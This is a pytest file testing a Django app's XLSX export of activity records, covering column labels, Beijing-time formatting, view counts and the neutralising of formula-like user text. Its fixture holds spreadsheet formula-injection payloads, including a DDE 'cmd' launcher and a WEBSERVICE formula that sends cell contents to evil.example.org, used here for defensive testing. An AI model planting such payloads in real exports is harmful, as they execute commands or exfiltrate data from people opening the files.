"""The XLSX export: what each column shows, and organisers' text that stays text (never a formula)."""

import re
from datetime import datetime

import pytest
from openpyxl import load_workbook

from reviews import services
from reviews.models import ExportJob
from summaries.models import ActivitySummary
from tests.factories import UserFactory, make_activity
from tests.reviews.conftest import flushed, reach, reviewer, unit
from tests.support import SHANGHAI

pytestmark = pytest.mark.django_db

# What a spreadsheet would otherwise read as a formula (= + - @, DDE), or strip (tab, CR).
FORMULA_LIKE = {
    "name": "=1+1",
    "address": "+86 10 1234 5678",
    "url": "-2+3",
    "org_name": "@SUM(A1:A9)",
    "org_contact_name": "\t=cmd|' /C calc'!A0",
    "org_contact_phone": '\r=HYPERLINK("//e.org")',  # the column holds 30 characters
    "supervisor_name": "{=A1}",
    "rejection_reason": '=WEBSERVICE("http://evil.example.org/?"&A2)',
}


def as_excel_reads(text: str) -> str:
    """OOXML writes a control character (CR) as ``_x000D_``, which Excel reads back; openpyxl does not."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda match: chr(int(match[1], 16)), text)


def exported(user) -> dict:
    """The one activity row of 河北省科协's export: column label → cell, as openpyxl reads the file."""
    job = services.build_export(ExportJob.objects.create(requested_by=user, unit=unit("河北省科协")))
    assert (job.state, job.total, job.done) == (ExportJob.State.DONE, 1, 1)
    with job.file.open("rb") as file:
        header, row = list(load_workbook(file).active.iter_rows())
    return {label.value: cell for label, cell in zip(header, row, strict=True)}


def hebei_activity(**fields):
    return make_activity(UserFactory(phone="13800138000"), owner_unit=unit("河北省科协"), **fields)


@pytest.fixture
def hebei():
    return reviewer("河北省科协", "13900000001")


def test_user_text_that_looks_like_a_formula_stays_text(hebei):
    hebei_activity(
        status="rejected",
        supervisor_type="other",
        supervisor=None,
        hosts=["=1+2", "+甲"],
        organizers=["@乙", "-丙"],
        **FORMULA_LIKE,
    )
    cells = exported(hebei)
    labels = dict(services.EXPORT_COLUMNS)
    for field, text in FORMULA_LIKE.items():
        cell = cells[labels[field]]
        assert (field, cell.data_type, as_excel_reads(cell.value)) == (field, "s", text)
    for label, text in [("主办单位", "=1+2，+甲"), ("承办单位", "@乙，-丙")]:
        assert (cells[label].data_type, cells[label].value) == ("s", text)


def test_beijing_time_labels_numbers_and_empty_cells(hebei):
    activity = hebei_activity(
        status="approved",
        activity_type="online",
        address="",
        starts_at=datetime(2020, 9, 30, 23, 30, tzinfo=SHANGHAI),  # 15:30 UTC: another day in UTC
        ends_at=datetime(2020, 10, 1, 1, 0, tzinfo=SHANGHAI),
        decided_at=datetime(2020, 9, 2, 8, 5, tzinfo=SHANGHAI),
        summarized_at=datetime(2020, 10, 2, 0, 15, tzinfo=SHANGHAI),
    )
    ActivitySummary.objects.create(activity=activity, text="好", participants=120, created_by=activity.owner)
    cells = {label: cell.value for label, cell in exported(hebei).items()}
    assert cells["活动编号"] == activity.public_code
    assert (cells["状态"], cells["活动类型"], cells["归口单位类型"]) == ("审核通过", "线上", "市科协")
    assert (cells["开始时间"], cells["结束时间"]) == ("2020-09-30 23:30", "2020-10-01 01:00")
    assert (cells["首次提交时间"], cells["审核时间"]) == ("2020-09-01 10:00", "2020-09-02 08:05")
    assert cells["总结提交时间"] == "2020-10-02 00:15"
    assert (cells["省"], cells["市"], cells["隶属单位"]) == ("河北省", "保定市", "河北省科学技术协会")
    assert (cells["主办单位"], cells["在云上科普日展示"], cells["活动参与人数"]) == (
        "保定市科学技术协会",
        "是",
        120,
    )
    assert (cells["活动地址"], cells["补充信息提交时间"], cells["未通过原因"]) == (None, None, None)


def test_views_and_shares_are_numbers_and_zero_before_any(hebei):
    organiser = UserFactory(phone="13800138000")
    viewed = make_activity(organiser, status="approved", owner_unit=unit("河北省科协"), name="有人看过")
    make_activity(organiser, status="pending", owner_unit=unit("河北省科协"), name="无人看过")
    reach(viewed, 1234, 56)
    flushed(viewed, 6, 4)  # counted since, and flushed: added to the totals
    job = services.build_export(ExportJob.objects.create(requested_by=hebei, unit=unit("河北省科协")))
    with job.file.open("rb") as file:
        header, *rows = load_workbook(file).active.iter_rows()
    labels = [cell.value for cell in header]
    assert labels[-3:] == ["活动参与人数", "浏览量", "分享数"]
    by_name = {row[labels.index("活动名称")].value: row for row in rows}
    for name, expected in (("有人看过", (1240, 60)), ("无人看过", (0, 0))):
        cells = by_name[name][labels.index("浏览量") :]
        assert [(cell.value, cell.data_type) for cell in cells] == [(n, "n") for n in expected]
